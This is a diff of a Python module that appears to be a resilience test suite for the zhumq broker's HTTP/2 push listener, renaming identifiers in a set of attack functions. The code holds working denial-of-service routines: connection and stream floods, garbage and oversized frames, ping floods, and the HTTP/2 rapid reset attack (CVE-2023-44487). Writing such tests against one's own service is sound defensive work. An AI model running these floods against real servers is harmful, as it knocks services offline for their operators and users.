@@ -1,4 +1,4 @@
-"""Attacks on the push listener: bare HTTP/2, so that nothing is read which an attacker would not read."""
+"""Attacks on the push listener, over raw HTTP/2 so that the attack decides what is read."""
 
 import asyncio
 import itertools
@@ -7,7 +7,7 @@ import struct
 
 from zhumq.protocol.push import push_pb2 as pb
 
-from .crowd import SMALL_BUFFER_BYTES, Enemy, crowd, forever
+from .crowd import SMALL_BUFFER_BYTES, AttackConnection, crowd, forever
 from .kafka_attacks import Attack
 from .target import LARGE, Target
 
@@ -31,7 +31,7 @@ def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 
 
 def greeting() -> bytes:
-    """As wide open as HTTP/2 allows: the server may send as much as it likes."""
+    """The preface with the largest flow-control limits: the server may send as much as it likes."""
     settings = struct.pack(
         ">HIHI", INITIAL_WINDOW_SIZE, RECORDS_MAX, MAX_FRAME_SIZE, FRAME_BYTES_MAX
     )
@@ -59,104 +59,104 @@ def message(stream: int, body: bytes) -> bytes:
 
 
 def subscribe(group: str, credits_: int = 10_000) -> bytes:
-    wanted = pb.Subscribe(
+    subscription = pb.Subscribe(
         topics=[pb.TopicChoice(name=LARGE)],
         mode=pb.PSB,
         group=group,
         credits=credits_,
         start=pb.Start(kind=pb.EARLIEST),
     )
-    return pb.ClientFrame(subscribe=wanted).SerializeToString()
+    return pb.ClientFrame(subscribe=subscription).SerializeToString()
 
 
 async def push_unread(target: Target) -> None:
     """300 consumers that subscribe to 64 MB and read nothing."""
     numbers = itertools.count()
 
-    async def deed(enemy: Enemy) -> None:
+    async def act(connection: AttackConnection) -> None:
         group = f"attack-{next(numbers)}"
-        await enemy.send(greeting() + headers(1) + message(1, subscribe(group)))
+        await connection.send(greeting() + headers(1) + message(1, subscribe(group)))
         await asyncio.Event().wait()
 
-    await crowd(target.push, 300, deed, receive_bytes=SMALL_BUFFER_BYTES)
+    await crowd(target.push, 300, act, receive_bytes=SMALL_BUFFER_BYTES)
 
 
 async def push_unread_on_one_connection(target: Target) -> None:
     """Three connections with 100 such consumers each."""
     numbers = itertools.count()
 
-    async def deed(enemy: Enemy) -> None:
-        await enemy.send(greeting())
+    async def act(connection: AttackConnection) -> None:
+        await connection.send(greeting())
         for stream in range(1, 200, 2):
             group = f"attack-{next(numbers)}"
-            await enemy.send(headers(stream) + message(stream, subscribe(group)))
+            await connection.send(headers(stream) + message(stream, subscribe(group)))
         await asyncio.Event().wait()
 
-    await crowd(target.push, 3, deed, receive_bytes=SMALL_BUFFER_BYTES)
+    await crowd(target.push, 3, act, receive_bytes=SMALL_BUFFER_BYTES)
 
 
 async def push_streams_that_never_subscribe(target: Target) -> None:
     """1,000 streams on ten connections that send no frame."""
 
-    async def deed(enemy: Enemy) -> None:
-        await enemy.send(greeting() + b"".join(headers(stream) for stream in range(1, 200, 2)))
-        await forever(enemy)
+    async def act(connection: AttackConnection) -> None:
+        await connection.send(greeting() + b"".join(headers(stream) for stream in range(1, 200, 2)))
+        await forever(connection)
 
-    await crowd(target.push, 10, deed)
+    await crowd(target.push, 10, act)
 
 
 async def push_garbage(target: Target) -> None:
     """100 connections with bytes that are not HTTP/2, or not after the greeting."""
     beginnings = itertools.cycle([b"", greeting(), greeting() + headers(1)])
 
-    async def deed(enemy: Enemy) -> None:
-        await enemy.send(next(beginnings) + os.urandom(10_000))
-        await forever(enemy)
+    async def act(connection: AttackConnection) -> None:
+        await connection.send(next(beginnings) + os.urandom(10_000))
+        await forever(connection)
 
-    await crowd(target.push, 100, deed)
+    await crowd(target.push, 100, act)
 
 
 async def push_huge_frames(target: Target) -> None:
-    """20 connections that say a frame of 2 GB comes, and send as much as is taken of it."""
+    """20 connections that announce a frame of 2 GB, and send as much of it as the broker reads."""
     body = frame(DATA, 0, 1, bytes(16_384))
 
-    async def deed(enemy: Enemy) -> None:
+    async def act(connection: AttackConnection) -> None:
         start = frame(DATA, 0, 1, b"\x00" + struct.pack(">I", RECORDS_MAX))
-        await enemy.send(greeting() + headers(1) + start)
+        await connection.send(greeting() + headers(1) + start)
         while True:
-            await enemy.send(body)
+            await connection.send(body)
             await asyncio.sleep(0.01)
 
-    await crowd(target.push, 20, deed)
+    await crowd(target.push, 20, act)
 
 
 async def push_pings(target: Target) -> None:
     """Ten connections that ping and change settings without a pause, and read nothing."""
     ping = frame(PING, 0, 0, bytes(8)) * 10 + frame(SETTINGS, 0, 0, b"") * 10
 
-    async def deed(enemy: Enemy) -> None:
-        await enemy.send(greeting())
+    async def act(connection: AttackConnection) -> None:
+        await connection.send(greeting())
         while True:
-            await enemy.send(ping)
+            await connection.send(ping)
             await asyncio.sleep(0.01)
 
-    await crowd(target.push, 10, deed)
+    await crowd(target.push, 10, act)
 
 
 async def push_rapid_resets(target: Target) -> None:
     """Ten connections that open streams and reset them at once (CVE-2023-44487)."""
 
-    async def deed(enemy: Enemy) -> None:
-        await enemy.send(greeting())
+    async def act(connection: AttackConnection) -> None:
+        await connection.send(greeting())
         for first in range(1, 2**30, 20):
             streams = range(first, first + 20, 2)
             reset = struct.pack(">I", CANCEL)
-            await enemy.send(
+            await connection.send(
                 b"".join(headers(each) + frame(RST_STREAM, 0, each, reset) for each in streams)
             )
             await asyncio.sleep(0.05)
 
-    await crowd(target.push, 10, deed)
+    await crowd(target.push, 10, act)
 
 
 PUSH_ATTACKS: dict[str, Attack] = {
